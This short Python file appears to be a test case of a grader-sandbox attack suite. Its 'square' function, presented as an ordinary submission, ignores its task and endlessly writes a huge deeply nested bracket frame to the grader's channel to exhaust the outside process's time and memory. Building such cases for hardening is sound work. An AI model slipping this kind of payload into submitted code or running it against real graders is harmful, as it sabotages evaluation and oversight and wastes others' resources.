"""Frame after frame of eight million brackets, each costly to read.

Gains: the outside's time and memory
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error or timeout
"""

import os

from burglary import channel

from grader.sandbox import wire


def square(x):
    part = b'["l"],' * 1_390_000
    header = b'["l",["d",["value",["l",' + part[:-1] + b"]]]]"
    frame = wire.PREFIX.pack(len(header), 0) + header
    while True:
        view = memoryview(frame)
        while view:
            view = view[os.write(channel(), view) :]
